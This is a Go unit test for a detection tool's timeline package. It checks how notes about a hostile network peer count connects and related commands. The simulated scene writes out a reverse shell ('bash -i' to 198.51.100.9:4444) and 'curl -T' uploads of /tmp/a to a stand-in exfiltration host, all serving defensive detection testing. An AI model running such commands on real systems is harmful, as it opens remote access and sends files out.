package timeline

import (
	"strings"
	"testing"

	"github.com/auditchain/auditchain/detect"
)

// The note that ties a hostile peer's users together says who connected
// to it (not who only named it in a command line, nor who ran inside the
// channel), and counts each connect once, under what it counts.
func TestPeerNoteSaysWhatItCounts(t *testing.T) {
	s, root, rev := reverseShellScene(t)
	bash := child(201, root)
	s.exec(10.01, bash, "bash", "-i")
	conn := s.connect(10.02, bash, "198.51.100.9", 4444)
	cf := s.find(conn, detect.StageCommandAndControl, detect.SeverityHigh, "Reverse Shell Connection")
	in := s.find(s.exec(11, child(202, bash), "id"), detect.StageCommandAndControl, detect.SeverityHigh, "Command Run Inside A Reverse Shell")
	in.Related = append(in.Related, conn)
	// two uploads to an exfiltration sink: each a finding on its connect
	var sinks []*detect.Finding
	for i, pid := range []int{210, 211} {
		p := child(pid, bash)
		s.exec(12+float64(i), p, "curl", "-T", "/tmp/a", "http://198.51.100.20:8000/u")
		sinks = append(sinks, s.find(s.connect(12.01+float64(i), p, "198.51.100.20", 8000), detect.StageExfiltrationImpact, detect.SeverityMedium, "Outbound Connection"))
	}
	r := s.build()
	c := chainOf(r, rev)
	wantIn(t, r, c, "the reverse shell, its connect, a command in it and the uploads are one chain", cf, in, sinks[0], sinks[1])
	note := func(addr string) string {
		for _, l := range c.Links {
			if strings.HasPrefix(l, "peer: "+addr+",") {
				return l
			}
		}
		t.Fatalf("no peer note for %s in %q", addr, c.Links)
		return ""
	}
	for _, tc := range []struct {
		addr      string
		want, not []string
	}{
		{"198.51.100.9:4444",
			[]string{"peer: 198.51.100.9:4444, a peer of suspicious-process-spawn and command-and-control acts, named in the command line of pid 200", "connected to by pid 201 (bash)", "1 connect,", "1 command line naming it", "1 act run inside its channel", "the last by pid 202 (id) at", "(inside its channel)"},
			[]string{"used by pid 200", "3 times", "the endpoint of a reverse shell"}},
		{"198.51.100.20:8000",
			[]string{"peer: 198.51.100.20:8000, a peer of exfiltration-impact acts, connected to by pid 210 (curl)", "seen in 2 connects;", "the last by pid 211 (curl)"},
			[]string{"4 times", "4 connects"}},
	} {
		got := note(tc.addr)
		for _, w := range tc.want {
			if !strings.Contains(got, w) {
				t.Errorf("note %q: missing %q", got, w)
			}
		}
		for _, w := range tc.not {
			if strings.Contains(got, w) {
				t.Errorf("note %q: says %q", got, w)
			}
		}
	}
}
